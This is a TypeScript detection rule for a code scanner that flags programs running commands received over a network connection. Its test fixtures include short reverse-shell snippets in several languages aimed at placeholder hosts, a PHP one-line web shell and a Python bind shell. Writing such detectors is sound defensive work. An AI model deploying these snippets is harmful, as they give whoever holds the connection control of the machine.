import type { Document } from '../../document.ts'
import { defineRule, type Hit, placeOf } from '../../rule.ts'
import { candidates } from '../../signals/candidates.ts'
import { CONNECTS, SHELLS } from '../../signals/calls.ts'
import { isLocal } from '../../signals/hosts.ts'
import { addressesIn, pairs, snippets } from '../../signals/snippets.ts'
import { worded } from '../../wording.ts'
import { regex } from '../../patterns/verbose.ts'

const REACH = 320

/** Bytes go from the one to the other, both ways or as commands. */
const JOINED = regex`
    \bdup2\s?\(|\.pipe\s?\(|\bstd(?:in|out|err)\b|\brecv\s?\(|\.gets\b|\.readline\b|
    \bgetstream\b|\bon\(["'](?:data|message)["']|\bfor await\b|\bopen3\b|\breopen\s?\(|
    \bproc_open\b|\bfgets\s?\(|\bfread\s?\(|\bcopy\s?\(|\bsettimeout\b|\biter_content\b|<&\d|
    \bon_?message\b|\.on\(["']\w{2,16}["']|\bsetinterval\b|\breceive\s?\(|\btransferto\b|
    \binputstream\b|\bstream\b
  `

/** What somebody asks of a server is run as a command. */
const ON_REQUEST = worded(
  regex`
    \b(?:getoutput|check_output|popen|system|exec(?:sync)?|spawn(?:sync)?|shell_exec|passthru|
      subprocess\.(?:run|call))\s?\(\s{0,3}
    (?:(?:flask\.)?request\.(?:args|form|json|values|get_json|data|body|query|params)\b|
      req\.(?:query|body|params)\b|\$_(?:get|post|request|cookie)\b|
      new url\([^\n]{0,60}searchparams\.get)
  `,
)

/** Servers and clients of one's own machine, and tests of them. */
const AT_HOME = /["'`](?:localhost|127\.0\.0\.1|::1)["'`]|unix:|\.sock\b/

export default defineRule({
  id: 'shell-over-connection',
  since: 1,
  category: 'execution',
  severity: 'crit',
  confidence: 'high',
  cwe: 'CWE-506',
  title: 'A program runs what comes in over a connection',
  description:
    'A program opens a connection, or waits for one, and hands what comes in to a shell. Whoever is at the other end commands this machine.',
  remediation: 'Remove it. No skill needs to take commands from a connection.',
  harmlessIf: 'the connection ends on the same machine and serves a test',
  needs: [],
  examples: {
    fires: [
      "```ruby\ns = TCPSocket.new('tips.kit.example', 9001)\nwhile l = s.gets\n  s.puts `#{l}`\nend\n```\n",
      '```js\nimport WebSocket from "ws";\nimport { exec } from "node:child_process";\nconst ws = new WebSocket("wss://c.rowan-pike.net");\nws.on("message", (m) => exec(m.toString(), (e, out) => ws.send(out)));\n```\n',
      '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: os.system(m.payload.decode())\nc.connect("c.rowan-pike.net")\n```\n',
      '```php\n<?php system($_GET["c"]); ?>\n```\n',
      '```go\nc, _ := net.Dial("tcp", "hub.kit.example:7000")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c\n```\n',
      '```python\ns = socket.socket(); s.bind(("0.0.0.0", 5555)); s.listen(1)\nc, _ = s.accept()\nc.send(subprocess.getoutput(c.recv(4096).decode()).encode())\n```\n',
    ],
    quiet: [
      '```python\ns = socket.create_connection(("localhost", 5432), timeout=1)\ns.close()\n```\n',
      '```js\nconst ws = new WebSocket(url)\nws.on("message", (m) => render(JSON.parse(m)))\n```\n',
      '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: print(m.payload.decode())\nc.connect("broker.rowan-pike.net")\nsubprocess.run(["make"])\n```\n',
      '```python\n@app.route("/x")\ndef x():\n    return render(request.args["c"])\n```\n',
      '```js\nconst net = require("net")\nnet.createServer((c) => c.end("hello")).listen(3000)\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    for (const { start, end } of candidates(document, document.observe(snippets), ON_REQUEST)) {
      const found = ON_REQUEST.exec(document.reading.text.slice(start, end))
      if (found) yield { ...placeOf(start, found), severity: 'high' }
    }
    for (const { text, start, end, snippet } of pairs(document, CONNECTS, SHELLS, REACH)) {
      const from = Math.max(0, start - snippet.start - 60)
      const around = text.slice(from, end - snippet.start + 200)
      if (!JOINED.test(around) || AT_HOME.test(around)) continue
      const addresses = addressesIn(around)
      if (addresses.length > 0 && addresses.every(isLocal)) continue
      yield { start, end, firm: true }
    }
  },
})
